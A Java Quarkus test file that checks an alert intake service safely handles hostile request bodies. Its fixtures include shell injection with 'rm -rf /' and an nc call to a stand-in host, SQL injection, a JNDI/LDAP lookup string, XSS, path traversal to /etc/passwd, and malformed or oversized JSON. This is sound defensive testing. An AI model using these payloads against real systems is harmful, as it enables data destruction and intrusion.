package org.aimos.intake;

import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ExtractableResponse;
import io.restassured.response.Response;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import org.aimos.events.Alert;
import org.aimos.events.AlertFact;
import org.aimos.events.AlertStatus;
import org.aimos.events.Fact;
import org.aimos.events.Topic;
import org.aimos.testkit.FactProbe;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Bodies that mean harm: each gets one clear error, or becomes an alert whose text is only text.
 */
@QuarkusTest
class HostileBodiesTest {

    private static final Map<String, String> TEXTS = new LinkedHashMap<>();
    private static final Map<String, byte[]> BODIES = new LinkedHashMap<>();

    static {
        TEXTS.put("shell", "$(rm -rf /) `id` ; reboot | nc evil 1 && true > /etc/passwd");
        TEXTS.put("sql", "'; DROP TABLE incident; -- \\\" or 1=1");
        TEXTS.put("template", "{{ secrets.token }} ${jndi:ldap://evil/a} #{7*7} <%= x %> {% x %}");
        TEXTS.put("page", "<script>alert(1)</script><img src=x onerror=y>");
        TEXTS.put("control", "a\\u0000b\\u001b[31mred\\u0007\\r\\nINFO forged log line\\u0085");
        TEXTS.put("directions", "abc\\u202etxt.exe\\u2066\\u2028");
        TEXTS.put("half characters", "\\ud800 \\udfff x");
        TEXTS.put("emoji", "\\ud83d\\ude00 ünïcödé 中文");
        TEXTS.put("path", "../../../../etc/passwd\\u0000.png");
        TEXTS.put("long", "x".repeat(100_000));

        BODIES.put("deep", "[".repeat(100_000).getBytes(StandardCharsets.UTF_8));
        BODIES.put("deep objects", "{\"a\":".repeat(5_000).getBytes(StandardCharsets.UTF_8));
        BODIES.put("huge number", text("{\"name\":\"x\",\"id\":" + "9".repeat(100_000) + "}"));
        BODIES.put("huge exponent", text("{\"name\":\"x\",\"id\":1e999999999}"));
        BODIES.put("huge time", text("{\"name\":\"x\",\"timestamp\":99999999999999999999999}"));
        BODIES.put("key twice", text("{\"name\":\"x\",\"name\":\"y\"}"));
        BODIES.put("invalid utf-8", new byte[] {'{', '"', (byte) 0xFF, (byte) 0xC0, '"', '}'});
        BODIES.put("cut", text("{\"name\":\"x"));
        BODIES.put("nothing", new byte[0]);
        BODIES.put("zeros", new byte[1000]);
        BODIES.put("utf-16", "{\"name\":\"x\"}".getBytes(StandardCharsets.UTF_16));
        BODIES.put("wrong types", text("{\"name\":{\"a\":[]},\"status\":[],\"labels\":7}"));
        BODIES.put("nulls", text("{\"name\":null,\"title\":null,\"labels\":null,\"alerts\":null}"));
        BODIES.put("many alerts", text("[" + "{\"name\":\"x\"},".repeat(6_000) + "1]"));
        BODIES.put("many labels", text(manyLabels()));
        BODIES.put("prototype", text("{\"__proto__\":{\"x\":1},\"name\":\"constructor\"}"));
        BODIES.put(
                "xml", text("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>"));
    }

    @BeforeEach
    void applySources() {
        IntakeApp.sources();
    }

    @Test
    void hostile_text_becomes_a_harmless_alert() {
        TEXTS.forEach((what, text) -> {
            String body =
                    """
                    {"alerts":[{"status":"firing","fingerprint":"hostile-%s","labels":\
                    {"alertname":"%s","instance":"%2$s","%3$s":"%2$s"},"annotations":{"summary":"%2$s"},"startsAt":"2026-01-01T00:00:00Z"}]}
                    """
                            .formatted(what, text, text.replace("\\u", "u"));
            var answer = IntakeApp.post("alertmanager", IntakeApp.TOKEN, body).extract();
            if (text.length() > 4_000) {
                assertThat(answer.statusCode()).as(what).isIn(202, 400);
            } else {
                assertThat(answer.statusCode()).as(what).isEqualTo(202);
                assertThat(alert(answer)).as(what).satisfies(HostileBodiesTest::isHarmless);
            }
        });
    }

    @Test
    void a_service_named_in_hostile_words_is_outside_every_source() {
        TEXTS.forEach((what, text) -> {
            var answer =
                    IntakeApp.post(
                                    "json",
                                    IntakeApp.TOKEN,
                                    "{\"name\":\"x\",\"service\":\"" + text + "\"}")
                            .extract();
            assertThat(answer.statusCode()).as(what).isEqualTo(202);
            assertThat(answer.<Integer>path("quarantined")).as(what).isEqualTo(1);
        });
    }

    @Test
    void hostile_bodies_get_one_clear_answer_and_never_a_failure_of_ours() {
        BODIES.forEach((what, body) -> {
            for (String connector :
                    new String[] {
                        "json", "alertmanager", "grafana", "cloudevents", "pagerduty-events"
                    }) {
                var answer = IntakeApp.post(connector, IntakeApp.TOKEN, body).extract();
                assertThat(answer.statusCode())
                        .as("%s to %s: %s", what, connector, answer.asString())
                        .isIn(202, 400, 413);
                if (answer.statusCode() != 202) {
                    assertThat(answer.<String>path("mend")).as(what).isNotBlank();
                }
            }
        });
    }

    @Test
    void a_body_that_would_become_far_more_than_it_is_gets_413_with_a_way_to_mend_it() {
        String around = "\"commonAnnotations\":{\"a\":\"" + "x".repeat(2_000) + "\"}";
        String alerts = "{\"labels\":{\"service\":\"shop\"}},".repeat(4_900);
        String body = "{" + around + ",\"alerts\":[" + alerts + "{}]}";

        var answer = IntakeApp.post("alertmanager", IntakeApp.TOKEN, body).extract();

        assertThat(answer.statusCode()).isEqualTo(413);
        assertThat(answer.<String>path("where")).startsWith("at alert ");
        assertThat(answer.<String>path("mend")).contains("smaller groups");
    }

    @Test
    void a_hostile_event_is_answered_as_pagerduty_would() {
        BODIES.forEach((what, body) -> {
            String text = new String(body, StandardCharsets.ISO_8859_1);
            int status = IntakeApp.enqueue(text).extract().statusCode();
            assertThat(status).as(what).isIn(202, 400, 413);
        });
    }

    private static Alert alert(ExtractableResponse<Response> answer) {
        String receipt = answer.path("receipt");
        try (FactProbe probe = FactProbe.on(Topic.ALERTS)) {
            Fact fact = probe.await("the alert", one -> receipt.equals(one.deliveryId()));
            return ((AlertFact) fact.data()).alert();
        }
    }

    private static void isHarmless(Alert alert) {
        assertThat(alert.status()).isEqualTo(AlertStatus.FIRING);
        assertThat(alert.title())
                .doesNotContainPattern("[\\p{Cntrl}\\u202a-\\u202e\\u2066-\\u2069]");
        assertThat(alert.name().length()).isLessThan(300);
        assertThat(alert.labels())
                .allSatisfy((name, value) -> {
                    assertThat(name).doesNotContainPattern("[\\p{Cntrl}]");
                    assertThat(value).doesNotContain("\u0000").doesNotContain("\u001b");
                });
    }

    private static String manyLabels() {
        var labels = new StringBuilder("{\"name\":\"x\",\"labels\":{\"a\":\"b\"");
        for (int i = 0; i < 20_000; i++) {
            labels.append(",\"k").append(i).append("\":\"v\"");
        }
        return labels.append("}}").toString();
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
